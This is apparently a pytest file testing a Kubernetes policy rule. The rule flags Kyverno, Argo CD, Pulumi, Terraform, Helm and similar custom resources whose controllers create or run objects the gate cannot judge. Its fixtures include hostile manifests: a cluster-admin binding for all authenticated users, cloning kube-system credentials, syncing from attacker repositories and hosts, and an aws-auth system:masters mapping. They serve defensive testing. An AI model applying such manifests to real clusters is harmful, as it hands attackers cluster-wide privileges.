"""AGID-K8S-016 over gRPC: custom resources whose controller generates, applies, mutates or runs what the gate
cannot judge (red13 r13-16): each flagged kind beside a look-alike that passes."""

from __future__ import annotations

import pytest

from tests.policy import pack_cases

RULE = "AGID-K8S-016"
CRB = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "pwn"},
       "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
       "subjects": [{"kind": "Group", "name": "system:authenticated"}]}
NETPOL = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "deny"},
          "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}}


def stack_findings(pack, rule, resources, level=None):
    """(name, message) of `rule`'s findings, each message without the pack's description header."""
    return [(name, message.split("\n[unparseable] ", 1)[-1])
            for name, message in pack_cases.stack_findings(pack, rule, resources, level)]


MATCH = {"any": [{"resources": {"kinds": ["Namespace"]}}]}


def kyverno(kind: str, rule: dict) -> tuple[str, str, dict]:
    return (f"kubernetes:kyverno.io/v1:{kind}", "pol", {"metadata": {"name": "gen"},
                                                        "spec": {"rules": [{"name": "r", "match": MATCH, **rule}]}})


GENERATE_CRB = {"generate": {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                             "name": "pwn", "synchronize": True,
                             "data": {"roleRef": CRB["roleRef"], "subjects": CRB["subjects"]}}}
GENERATE_NETPOL = {"generate": {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "name": "deny",
                                "namespace": "{{request.object.metadata.name}}", "data": {"spec": NETPOL["spec"]}}}


def always(token: str, name: str, what: str) -> str:
    kind = token.rsplit(":", 1)[1]
    return (f"{name} is a {kind}, whose controller {what}: the gate cannot judge what that creates or runs (cannot "
            "check); declare the objects in this stack, or waive it with a reason")


def template(name: str, where: str, kind: str, group: str) -> str:
    return (f"{name} {where} makes its controller create a {kind} ({group}), which the gate does not judge inside a "
            "template (cannot check); declare the object in this stack, where its rules judge it, or waive it with "
            "a reason")


@pytest.mark.parametrize("kind", ["ClusterPolicy", "Policy"])
def test_kyverno_generate_of_a_binding_cannot_be_checked(pack, kind):
    assert stack_findings(pack, RULE, [kyverno(kind, GENERATE_CRB)], "mandatory") == [
        ("pol", template("pol", "spec.rules[0].generate", "ClusterRoleBinding", "rbac.authorization.k8s.io"))]


def test_kyverno_clone_and_mutate_cannot_be_checked(pack):
    clone = {"generate": {"apiVersion": "v1", "kind": "Secret", "name": "creds",
                          "clone": {"namespace": "kube-system", "name": "cloud-creds"}}}
    found = [message for _, message in stack_findings(pack, RULE, [kyverno("ClusterPolicy", clone)], "mandatory")]
    assert sorted(found) == sorted([
        "pol sets spec.rules[0].generate.clone: its controller generates objects (generate rules, with Kyverno's "
        "cluster-wide service account) or mutates admitted and existing objects (mutate rules), and what this creates "
        "cannot be judged (cannot check); declare the objects in this stack, or waive it with a reason",
        template("pol", "spec.rules[0].generate", "Secret", "core")])
    mutate = {"mutate": {"patchStrategicMerge": {"spec": {"serviceAccountName": "admin"}}}}
    [(name, message)] = stack_findings(pack, RULE, [kyverno("ClusterPolicy", mutate)], "mandatory")
    assert name == "pol" and message.startswith("pol sets spec.rules[0].mutate: its controller generates objects")


def test_kyverno_validate_policy_and_networkpolicy_generator_pass(pack):
    validate = {"validate": {"message": "no latest", "pattern": {"spec": {"containers": [{"image": "!*:latest"}]}}}}
    assert stack_findings(pack, RULE, [kyverno("ClusterPolicy", validate)]) == []
    assert stack_findings(pack, RULE, [kyverno("Policy", GENERATE_NETPOL)]) == []


def test_kyverno_template_kind_unknown_at_preview_is_not_yet_known(pack):
    rule = {"generate": {**GENERATE_NETPOL["generate"], "kind": "04da6b54-80e4-46f7-96ec-b56ff0331ba9"}}
    token, name, props = kyverno("ClusterPolicy", rule)
    assert stack_findings(pack, RULE, [(token, name, props)], "mandatory") == []
    assert [m for _, m in stack_findings(pack, RULE, [(token, name, props)], "advisory")] != []


ARGO_APP = {"metadata": {"name": "evil", "namespace": "argocd"},
            "spec": {"project": "default", "source": {"repoURL": "https://github.com/attacker/manifests", "path": ".",
                                                      "targetRevision": "HEAD"},
                     "destination": {"server": "https://kubernetes.default.svc", "namespace": "kube-system"},
                     "syncPolicy": {"automated": {}}}}


@pytest.mark.parametrize("token,props,what", [
    ("kubernetes:argoproj.io/v1alpha1:Application", ARGO_APP,
     "applies the manifests of its source repository (Argo CD's application controller, cluster-admin in a default "
     "install) to its destination cluster"),
    ("kubernetes:argoproj.io/v1alpha1:ApplicationSet",
     {"spec": {"generators": [{"list": {"elements": [{"cluster": "in"}]}}], "template": {"spec": ARGO_APP["spec"]}}},
     "generates Argo CD Applications that apply the manifests of their source repositories"),
    ("kubernetes:pulumi.com/v1:Stack",
     {"metadata": {"name": "infra"}, "spec": {"projectRepo": "https://github.com/attacker/infra", "branch": "main",
                                              "stack": "org/infra/prod", "serviceAccountName": "pulumi-admin"}},
     "runs a Pulumi program (projectRepo, fluxSource or programRef) with the operator's workspace credentials"),
    ("kubernetes:infra.contrib.fluxcd.io/v1alpha2:Terraform",
     {"spec": {"path": "./", "sourceRef": {"kind": "GitRepository", "name": "evil"}, "approvePlan": "auto"}},
     "runs Terraform (or OpenTofu) from its source with the runner pod's credentials (tf-controller)"),
    ("kubernetes:core.oam.dev/v1beta1:Application", {"spec": {"components": []}},
     "renders its components and traits through CUE definitions and applies the result (KubeVela)"),
    ("kubernetes:mutations.gatekeeper.sh/v1:Assign", {"spec": {"location": "spec.serviceAccountName"}},
     "mutates every admitted object it matches (OPA Gatekeeper mutation: images, service accounts, subjects)"),
    ("kubernetes:capsule.clastix.io/v1beta2:Tenant", {"spec": {"owners": [{"kind": "User", "name": "x"}]}},
     "binds its owners (and additionalRoleBindings subjects) to admin roles in every namespace of the tenant (Capsule)"),
    ("kubernetes:policies.kyverno.io/v1alpha1:GeneratingPolicy", {"spec": {"generate": [{"expression": "x"}]}},
     "generates objects from CEL expressions (Kyverno's CEL policies) with Kyverno's cluster-wide service account"),
    ("kubernetes:argoproj.io/v1alpha1:Sensor", {"spec": {"triggers": [{"template": {"k8s": {"operation": "create"}}}]}},
     "creates the Kubernetes objects and Argo Workflows of its triggers on every event (Argo Events)"),
    ("kubernetes:helm.cattle.io/v1:HelmChart", {"spec": {"chart": "evil", "repo": "https://attacker.example"}},
     "installs a Helm chart with the k3s/RKE2 helm-controller's cluster-admin job"),
])
def test_remote_sources_and_iac_runs_cannot_be_checked_whatever_they_name(pack, token, props, what):
    assert stack_findings(pack, RULE, [(token, "obj", props)], "mandatory") == [("obj", always(token, "obj", what))]


def test_a_patch_and_a_list_item_of_a_generator_are_read_as_the_kind(pack):
    token = "kubernetes:argoproj.io/v1alpha1:Application"
    found = stack_findings(pack, RULE, [(token + "Patch", "p", ARGO_APP)], "mandatory")
    assert [name for name, _ in found] == ["p"]
    found = stack_findings(pack, RULE, [(token + "List", "l", {"items": [ARGO_APP]})], "mandatory")
    assert len(found) == 1 and "is a Application, whose controller applies" in found[0][1]


def test_kro_template_of_a_binding_or_configmap_cannot_be_checked_a_networkpolicy_passes(pack):
    token = "kubernetes:kro.run/v1alpha1:ResourceGraphDefinition"
    schema = {"apiVersion": "v1alpha1", "kind": "X", "spec": {}}

    def graph(template):
        return {"metadata": {"name": "r"}, "spec": {"schema": schema, "resources": [{"id": "o", "template": template}]}}

    assert stack_findings(pack, RULE, [(token, "rgd", graph(CRB))], "mandatory") == [
        ("rgd", template("rgd", "spec.resources[0].template", "ClusterRoleBinding", "rbac.authorization.k8s.io"))]
    # EKS reads its IAM-to-Kubernetes grants from this ConfigMap: a ConfigMap is not a reviewed template kind
    aws_auth = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "aws-auth", "namespace": "kube-system"},
                "data": {"mapRoles": "- rolearn: arn:aws:iam::999999999999:role/x\n  groups: [system:masters]"}}
    assert stack_findings(pack, RULE, [(token, "rgd", graph(aws_auth))], "mandatory") == [
        ("rgd", template("rgd", "spec.resources[0].template", "ConfigMap", "core"))]
    assert stack_findings(pack, RULE, [(token, "rgd", graph(NETPOL))]) == []
    # a look-alike kind in another group is not the reviewed NetworkPolicy
    fake = {**NETPOL, "apiVersion": "evil.example.com/v1"}
    assert stack_findings(pack, RULE, [(token, "rgd", graph(fake))], "mandatory") == [
        ("rgd", template("rgd", "spec.resources[0].template", "NetworkPolicy", "evil.example.com"))]


def test_tekton_trigger_template_creating_a_pod_cannot_be_checked(pack):
    token = "kubernetes:triggers.tekton.dev/v1beta1:TriggerTemplate"
    pod = {"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [{"name": "c", "image": "x"}]}}
    assert [n for n, _ in stack_findings(pack, RULE, [(token, "tt", {"spec": {"resourcetemplates": [pod]}})],
                                         "mandatory")] == ["tt"]
    assert stack_findings(pack, RULE, [(token, "tt", {"spec": {"resourcetemplates": [NETPOL]}})]) == []


def test_other_groups_are_not_this_rules(pack):
    assert stack_findings(pack, RULE, [
        ("kubernetes:argoproj.io/v1alpha1:Workflow", "wf", {"spec": {"templates": []}}),
        ("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", "crb", CRB),
    ]) == []
